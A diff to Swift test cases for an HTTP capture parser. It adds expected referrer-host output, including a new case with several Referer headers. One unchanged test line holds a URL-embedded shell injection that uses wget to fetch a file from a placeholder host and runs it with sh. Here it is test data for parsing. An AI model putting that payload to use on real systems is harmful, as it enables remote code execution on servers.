@@ -13,7 +13,8 @@ extension HTTPTests {
       [
         "1 http.host www.example.com", "1 http.url http://www.example.com/a?b=C",
         "1 http.user-agent curl/8.0",
-        "1 http.referrer https://ref.example/x", "1 http.x-forwarded-for 192.0.2.9",
+        "1 http.referrer https://ref.example/x", "1 http.referrer ref.example",
+        "1 http.x-forwarded-for 192.0.2.9",
         "1 http.x-forwarded-for 2001:db8::9:99", "1 http.x-forwarded-for 192.0.2.10:80",
         "1 http.x-forwarded-for 2001:db8::a:81", "1 http.x-forwarded-for 2001:db8::b",
       ])
@@ -51,6 +52,17 @@ extension HTTPTests {
       "an IPv6 address as host",
       request("GET / HTTP/1.1\r\nHost: [2001:db8::7]:81\r\n\r\n", port: 81),
       ["1 http.host 2001:db8::7:81", "1 http.url http://[2001:db8::7]:81/"])
+    CaptureCase(
+      "hosts of referrers",
+      request(
+        "GET / HTTP/1.1\r\nReferer: http://u:p@203.0.113.9:81/x\r\nReferer: r.example/x\r\n"
+          + "Referer: /x\r\nReferer: http://[2001:db8::9]/\r\n\r\n", port: 8000),
+      [
+        "1 http.referrer http://203.0.113.9:81/x", "1 http.referrer 203.0.113.9:81",
+        "1 http.referrer r.example/x", "1 http.referrer r.example",
+        "1 http.referrer http://[2001:db8::9]/", "1 http.referrer 2001:db8::9",
+        "1 http.url http://198.51.100.2:8000/",
+      ])
     CaptureCase(
       "a host with user information",
       request("GET / HTTP/1.1\r\nHost: user@a.example\r\n\r\n"),
@@ -119,7 +131,7 @@ extension HTTPTests {
       [
         "1 http.host a.example",
         "1 http.url http://a.example/shell?cd+/tmp;wget%20http://b.example/x;sh%09x",
-        "1 http.referrer http://c.example/b?title=%20%20two%20words",
+        "1 http.referrer http://c.example/b?title=%20%20two%20words", "1 http.referrer c.example",
         "1 http.host d.example", "1 http.url http://d.example/a%20b",
       ])
     CaptureCase(
